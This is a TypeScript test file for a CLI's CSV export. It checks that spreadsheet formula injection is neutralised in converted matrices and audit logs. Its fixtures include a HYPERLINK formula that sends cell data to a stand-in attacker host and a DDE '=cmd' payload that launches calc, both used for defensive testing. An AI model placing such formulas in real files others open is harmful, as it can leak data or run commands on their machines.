import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Handoff, HandoffEvent } from '../../bot/domain/handoff/handoff.ts';
import { HandoffStore } from '../../bot/storage/handoff-store.ts';
import { azuriteConnectionString, freshTables } from '../support/azurite.ts';
import { runCli } from './run-cli.ts';

/** What a spreadsheet reads as the start of a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Details")';

const HOSTILE_MD = [
  '| Function | Internal | MSP | Aliases | MSP contact | Notes |',
  '|---|---|---|---|---|---|',
  `| ${HYPERLINK} | - | ✓ | =cmd; plain | @Sam Lee | +1 555 0100 |`,
  "| Backups | ✓ | '- |  |  | '=kept as typed |",
  '',
].join('\n');

describe('baton matrix convert --to csv neutralises formulas and converts back losslessly', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'baton-csv-safety-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('writes no formula cell, and the CSV converts back to the same Markdown', async () => {
    writeFileSync(join(dir, 'hostile.md'), HOSTILE_MD);
    const toCsv = await runCli(['matrix', 'convert', join(dir, 'hostile.md'), '--to', 'csv']);
    expect(toCsv.code).toBe(0);
    const cells = parse(toCsv.stdout, { relax_column_count: true }) as string[][];
    expect(cells.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells[1]).toEqual([`'${HYPERLINK}`, "'-", '✓', "'=cmd; plain", "'@Sam Lee", "'+1 555 0100"]);
    expect(cells[2]).toEqual(['Backups', '✓', "''-", '', '', "''=kept as typed"]);

    writeFileSync(join(dir, 'hostile.csv'), toCsv.stdout);
    const back = await runCli(['matrix', 'convert', join(dir, 'hostile.csv'), '--to', 'md']);
    expect(back.code).toBe(0);
    expect(back.stdout).toBe(HOSTILE_MD);
    const validated = await runCli(['matrix', 'validate', join(dir, 'hostile.csv'), '--json']);
    expect(JSON.parse(validated.stdout)).toEqual({ ok: true, rows: 2 });
  });
});

describe('baton audit export neutralises formulas in names, ids and notes', () => {
  const ENGAGEMENT = 'e-csvsafety001';
  let env: Record<string, string>;
  beforeAll(async () => {
    const { tables, prefix } = await freshTables();
    env = { AZURE_STORAGE_CONNECTION_STRING: azuriteConnectionString(), BATON_TABLE_PREFIX: prefix };
    const store = new HandoffStore(tables.handoffs);
    const at = (minute: number) => `2026-11-24T09:${String(minute).padStart(2, '0')}:00.000Z`;
    const events: HandoffEvent[] = [
      { kind: 'received', at: at(0), via: 'alert' },
      { kind: 'claimed', at: at(1), via: 'card', actor: { id: '=1+1', name: '@SUM(A1:A9)' }, cardId: '-activity' },
      { kind: 'disputed', at: at(2), via: 'card', actor: { id: 'u-2', name: '+Megan' }, toSide: 'internal', note: '\t=cmd|" /C calc"!A0' },
      { kind: 'resolved', at: at(3), via: 'card', actor: { id: 'u-2', name: 'Megan Bowen' }, note: HYPERLINK },
      { kind: 'reopened', at: at(4), via: 'alert', note: '\r=2+2' },
    ];
    let etag: string | undefined;
    for (let i = 0; i < events.length; i++) {
      const handoff = sampleHandoff(ENGAGEMENT, 'h-csv00001', events.slice(0, i + 1));
      const committed = await store.commit({ handoff, deliveries: [], audit: [events[i]!], ...(etag === undefined ? { pointer: {} } : { etag }) });
      etag = committed.etag;
    }
  });

  it('prefixes every cell that starts with = + - @ TAB or CR with an apostrophe', async () => {
    const { code, stdout, stderr } = await runCli(['audit', 'export', '--engagement', ENGAGEMENT, '--from', '2026-11-24', '--to', '2026-11-25'], env);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const rows = parse(stdout) as string[][];
    expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
    const records = parse(stdout, { columns: true }) as Array<Record<string, string>>;
    expect(records.map((r) => [r.event, r.actor_id, r.actor_name, r.card, r.note])).toEqual([
      ['received', '', '', '', ''],
      ['claimed', "'=1+1", "'@SUM(A1:A9)", "'-activity", ''],
      ['disputed', 'u-2', "'+Megan", '', '\'\t=cmd|" /C calc"!A0'],
      ['resolved', 'u-2', 'Megan Bowen', '', `'${HYPERLINK}`],
      ['reopened', '', '', '', "'\r=2+2"],
    ]);
  });
});

function sampleHandoff(engagementId: string, id: string, events: HandoffEvent[]): Handoff {
  const at = events[0]!.at;
  return {
    engagementId,
    id,
    dedupKey: `csv/${id}`,
    status: 'open',
    severity: 'warning',
    source: 'prometheus',
    summary: 'Disk almost full',
    labels: {},
    links: [],
    routing: { routedBy: 'none', matrixVersion: 0, owners: [], onPoint: [], reason: 'unowned' },
    openedAt: at,
    lastSeenAt: events[events.length - 1]!.at,
    occurrences: 1,
    escalation: { afterMinutes: null, repeatMinutes: null, maxCount: 0 },
    escalationCount: 0,
    events,
  };
}
